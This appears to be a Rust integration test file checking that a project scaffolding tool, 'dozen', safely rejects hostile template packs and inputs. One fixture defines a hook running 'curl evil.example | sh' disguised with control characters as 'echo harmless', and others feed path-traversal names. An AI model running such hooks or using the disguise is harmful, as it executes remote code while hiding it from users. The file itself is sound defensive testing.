//! dozen attacked the way an independent review did: hostile packs (spoofed hooks, FIFOs, broken
//! messages), hostile inputs (control characters, secrets in errors, FIFOs and devices as files,
//! symlinked targets), closed pipes and concurrent runs. Every case asserts what docs/security.md
//! promises: the documented exit code, a clear message, no panic, no hang, nothing written
//! outside the target, nothing partial left, no secret in any output.

use std::io::Read;
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use crate::support::{Env, TestPack, bounded, files_under, stderr, stdout};

fn no_panic(output: &Output) {
    assert!(!stderr(output).contains("panicked"), "{}", stderr(output));
    assert_ne!(output.status.code(), Some(101), "a panic's exit code");
}

#[test]
fn a_hook_cannot_disguise_itself_in_the_trust_prompt_or_the_refusal() {
    let env = Env::new();
    let pack = TestPack::new("spoof")
        .manifest("[[hooks]]\nrun = \"curl evil.example | sh\\r\\u001b[2Kecho harmless\"\n")
        .file("README.md", "hi\n")
        .write(&env.root.path().join("spoof"));
    let output = env.new_project(&["svc", "-y", "--pack", &pack]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    no_panic(&output);
    assert!(
        !output.stderr.contains(&b'\x1b') && !output.stderr.contains(&b'\r'),
        "raw control bytes reached the terminal"
    );
    assert!(stderr(&output).contains("curl evil.example | sh\\r\\x1b[2Kecho harmless"), "{}", stderr(&output));
    assert!(env.written().is_empty());
}

#[test]
fn pack_remove_only_ever_removes_a_pack_of_the_store() {
    let env = Env::new();
    let victim = env.root.path().join("victim");
    std::fs::create_dir_all(&victim).unwrap();
    std::fs::write(victim.join(".dozen-source.toml"), "name = \"x\"\nversion = \"1\"\nsource = \"x\"\n").unwrap();
    std::fs::write(victim.join("pack.toml"), "").unwrap();
    for name in [victim.display().to_string(), "../../../victim".to_owned(), "..".to_owned(), "a/b".to_owned()] {
        let output = env
            .dozen()
            .args(["pack", "remove", &name])
            .env("XDG_DATA_HOME", env.root.path().join("data"))
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(2), "{name}: {}", stderr(&output));
        assert!(stderr(&output).contains("cannot name an installed pack"), "{}", stderr(&output));
        assert!(victim.join("pack.toml").exists(), "{name} removed a directory outside the store");
    }
}

#[test]
fn secret_answers_never_appear_in_messages() {
    let env = Env::new();
    let pack = TestPack::new("secrets")
        .manifest(
            "[[questions]]\nname = \"token\"\ntype = \"string\"\nsecret = true\nvalidate = { regex = \"tok_[a-z]+\", message = \"starts with tok_\" }\n\n\
             [[questions]]\nname = \"pin\"\ntype = \"int\"\nsecret = true\ndefault = 1\n",
        )
        .file("README.md", "hi\n")
        .write(&env.root.path().join("secrets"));
    let cases: [&[&str]; 5] = [
        &["--set", "token=HUNTER2SECRET"],
        &["--set", "token=tok_a", "--set", "pin=HUNTER2SECRET"],
        &["--set", "token=tok_a", "--set", "token=HUNTER2SECRET"],
        &["--set", "tokn=HUNTER2SECRET"],
        &["--set", "token=tok_a\u{1b}HUNTER2SECRET"],
    ];
    for args in cases {
        for json in [false, true] {
            let mut all = vec!["svc", "-y", "--pack", &pack];
            all.extend_from_slice(args);
            if json {
                all.push("--json");
            }
            let output = env.new_project(&all);
            assert_eq!(output.status.code(), Some(2), "{args:?}: {}", stderr(&output));
            no_panic(&output);
            let shown = format!("{}{}", stdout(&output), stderr(&output));
            assert!(!shown.contains("HUNTER2"), "{args:?} echoed the secret: {shown}");
            assert!(env.written().is_empty());
        }
    }
}

#[test]
fn free_text_answers_with_control_characters_are_refused() {
    let env = Env::new();
    for (key, value) in [
        ("description", "line one\nline two"),
        ("description", "esc \u{1b}[31m"),
        ("name", "svc\nfn evil() {}"),
        ("author", "bell \u{7}"),
    ] {
        let output = env.new_project(&["svc", "-y", "--no-git", "--set", &format!("{key}={value}")]);
        assert_eq!(output.status.code(), Some(2), "{key}={value:?}: {}", stderr(&output));
        no_panic(&output);
        assert!(stderr(&output).contains("without control characters"), "{}", stderr(&output));
        assert!(!output.stderr.contains(&b'\x1b'), "the escape reached the terminal");
        assert!(env.written().is_empty(), "{key}");
    }
    let answers = env.root.path().join("answers.toml");
    std::fs::write(&answers, "description = \"a\\nb\"\n").unwrap();
    let output = env.new_project(&["svc", "-y", "--no-git", "--answers", &answers.display().to_string()]);
    assert_eq!(output.status.code(), Some(2), "an answers file goes through the same check: {}", stderr(&output));
}

#[cfg(unix)]
#[test]
fn fifos_and_devices_are_refused_without_hanging() {
    let env = Env::new();
    let fifo = env.root.path().join("answers.fifo");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    for input in [fifo.display().to_string(), "/dev/zero".to_owned()] {
        let mut cmd = env.std_dozen();
        cmd.args(["new", "svc", "-y", "--no-git", "--answers", &input, "-o"]).arg(env.out());
        let output = bounded(cmd, Duration::from_secs(20));
        assert_eq!(output.status.code(), Some(2), "{input}: {}", stderr(&output));
        assert!(stderr(&output).contains("not a regular file"), "{}", stderr(&output));
    }
    let pack_dir = env.root.path().join("fifo-pack");
    let pack = TestPack::new("fifo").file("README.md", "hi\n").write(&pack_dir);
    assert!(Command::new("mkfifo").arg(pack_dir.join("base/pipe")).status().unwrap().success());
    let mut cmd = env.std_dozen();
    cmd.args(["new", "svc", "-y", "--no-git", "--pack", &pack, "-o"]).arg(env.out());
    let output = bounded(cmd, Duration::from_secs(20));
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(stderr(&output).contains("base/pipe") && stderr(&output).contains("a FIFO"), "{}", stderr(&output));
    assert!(env.written().is_empty());
}

#[cfg(unix)]
#[test]
fn a_symlinked_target_is_never_written_through() {
    let env = Env::new();
    let elsewhere = env.root.path().join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, env.out().join("svc")).unwrap();
    for force in [false, true] {
        let mut args = vec!["svc", "-y"];
        if force {
            args.push("--force");
        }
        let output = env.new_project(&args);
        assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
        assert!(stderr(&output).contains("symbolic link"), "{}", stderr(&output));
        assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0, "nothing written through the link");
    }
}

#[test]
fn a_broken_message_fails_before_anything_is_written() {
    let env = Env::new();
    let pack = TestPack::new("badmsg")
        .manifest("[message]\ntemplate = \"{{ nope }}\"\n")
        .file("README.md", "hi\n")
        .write(&env.root.path().join("badmsg"));
    let output = env.new_project(&["svc", "-y", "--pack", &pack]);
    assert_ne!(output.status.code(), Some(0), "{}", stderr(&output));
    no_panic(&output);
    assert!(stderr(&output).contains("[message]"), "{}", stderr(&output));
    assert!(env.written().is_empty(), "nothing in place: {:?}", env.written());
}

#[test]
fn a_closed_stdout_or_stderr_ends_quietly_with_the_commands_exit_code() {
    let env = Env::new();
    // stdout closed at once: `dozen list | head -0`.
    let mut cmd = env.std_dozen();
    let mut child = cmd.arg("list").stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    drop(child.stdout.take());
    let mut err = String::new();
    child.stderr.take().unwrap().read_to_string(&mut err).unwrap();
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(0), "{err}");
    assert!(!err.contains("panicked"), "{err}");
    // stderr closed: the summary of `new` goes nowhere, the project is still made.
    let mut cmd = env.std_dozen();
    cmd.args(["new", "svc", "-y", "--no-git", "-o"]).arg(env.out());
    let mut child = cmd.stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
    drop(child.stderr.take());
    assert_eq!(child.wait().unwrap().code(), Some(0));
    assert!(env.out().join("svc/.dozen/answers.toml").is_file());
    // And a failing command keeps its own code with stderr closed.
    let mut cmd = env.std_dozen();
    cmd.args(["new", "svc", "-y", "-o"]).arg(env.out());
    let mut child = cmd.stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
    drop(child.stderr.take());
    assert_eq!(child.wait().unwrap().code(), Some(2), "target exists");
}

#[test]
fn concurrent_runs_on_one_target_leave_one_whole_project_and_the_others_exit_2() {
    let env = Env::new();
    let children: Vec<_> = (0..4)
        .map(|_| {
            let mut cmd = env.std_dozen();
            cmd.args(["new", "svc", "-y", "--no-git", "-o"]).arg(env.out());
            cmd.stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap()
        })
        .collect();
    let codes: Vec<Option<i32>> = children.into_iter().map(|c| c.wait_with_output().unwrap().status.code()).collect();
    assert_eq!(codes.iter().filter(|c| **c == Some(0)).count(), 1, "{codes:?}");
    assert!(codes.iter().all(|c| *c == Some(0) || *c == Some(2)), "{codes:?}");
    let fresh = env.root.path().join("fresh");
    let output = env.dozen().args(["new", "svc", "-y", "--no-git", "-o"]).arg(&fresh).output().unwrap();
    assert!(output.status.success());
    assert_eq!(files_under(&env.out().join("svc")), files_under(&fresh.join("svc")), "the winner's project is whole");
    let leftovers: Vec<String> = std::fs::read_dir(env.out())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n != "svc")
        .collect();
    assert!(leftovers.is_empty(), "staging directories left: {leftovers:?}");
}

#[test]
fn hooks_that_print_and_change_files_leave_valid_json_and_a_clean_first_commit() {
    let env = Env::new();
    let pack = TestPack::new("fmt")
        .manifest("[[hooks]]\nrun = \"echo formatting; echo formatted >> README.md; echo new > generated.txt\"\n")
        .file("README.md", "hi\n")
        .write(&env.root.path().join("fmt"));
    let output = env.new_project(&["svc", "-y", "--trust", "--json", "--pack", &pack]);
    assert!(output.status.success(), "{}", stderr(&output));
    let report: serde_json::Value = serde_json::from_str(&stdout(&output)).expect("stdout is one JSON document");
    assert_eq!(report["git"]["action"], "initialized");
    assert!(stderr(&output).contains("formatting"), "hook output goes to stderr");
    let repo = git2::Repository::open(env.out().join("svc")).unwrap();
    let statuses = repo.statuses(None).unwrap();
    assert_eq!(statuses.len(), 0, "the hooks' changes are in the first commit");
    let head = repo.head().unwrap().peel_to_tree().unwrap();
    assert!(head.get_path(std::path::Path::new("generated.txt")).is_ok());
}

#[test]
fn a_service_pack_in_the_current_directory_does_not_replace_the_builtin_default() {
    let env = Env::new();
    TestPack::new("impostor").file("IMPOSTOR.md", "gotcha\n").write(&env.root.path().join("service"));
    let output = env.new_project(&["svc", "-y", "--no-git"]);
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(!env.out().join("svc/IMPOSTOR.md").exists(), "the built-in pack was used");
    assert!(env.out().join("svc/Dockerfile").is_file());
}

#[test]
fn a_stack_alone_implies_its_language() {
    let env = Env::new();
    let output = env.new_project(&["svc", "-y", "--no-git", "--stack", "flask", "--json", "--dry-run"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let report: serde_json::Value = serde_json::from_str(&stdout(&output)).unwrap();
    assert_eq!(report["answers"]["lang"], "python");
    assert_eq!(report["answers"]["stack"], "flask");
}

#[cfg(unix)]
#[test]
fn an_installed_pack_keeps_its_executable_bits() {
    use std::os::unix::fs::PermissionsExt;
    let env = Env::new();
    let pack =
        TestPack::new("modes").executable("run.sh", "#!/bin/sh\necho hi\n").write(&env.root.path().join("modes"));
    let data = env.root.path().join("data");
    let added = env.dozen().args(["pack", "add", &pack]).env("XDG_DATA_HOME", &data).output().unwrap();
    assert!(added.status.success(), "{}", stderr(&added));
    let output = env
        .dozen()
        .args(["new", "svc", "-y", "--no-git", "--pack", "modes", "-o"])
        .arg(env.out())
        .env("XDG_DATA_HOME", &data)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    let mode = std::fs::metadata(env.out().join("svc/run.sh")).unwrap().permissions().mode();
    assert_ne!(mode & 0o111, 0, "run.sh is executable");
}
